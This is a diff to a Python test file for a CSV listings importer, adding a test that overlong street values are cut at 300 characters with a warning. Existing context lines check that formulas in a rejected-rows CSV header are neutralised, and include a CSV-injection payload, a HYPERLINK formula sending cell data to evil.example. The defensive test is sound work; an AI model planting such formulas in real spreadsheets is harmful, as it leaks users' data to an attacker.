@@ -109,3 +109,12 @@ def test_the_rejected_rows_csv_neutralises_formulas_in_its_header(importing, tmp
     header, row = list(csv.reader(io.StringIO(downloaded)))
     assert header[-2:] == ['\'=hyperlink("http://evil.example/?x="&a1;"open")', "'@sum(1)"]
     assert not any(cell[:1] in "=+-@" for cell in header + row if cell)
+
+
+def test_values_longer_than_their_column_are_cut_with_a_warning(importing, tmp_path):
+    path = tmp_path / "listings.csv"
+    path.write_text(f"{HEADER}\nLong Street Clinic (Test),{'9' * 310} Elm St,Austin,TX,78701,SA\n")
+    report = apply(path)
+    assert report.counts["new"] == 1
+    assert center("Long Street Clinic (Test)").street1 == "9" * 300  # the column's width
+    assert any("street1 is longer than 300 characters; cut." in w for w in report.warnings)
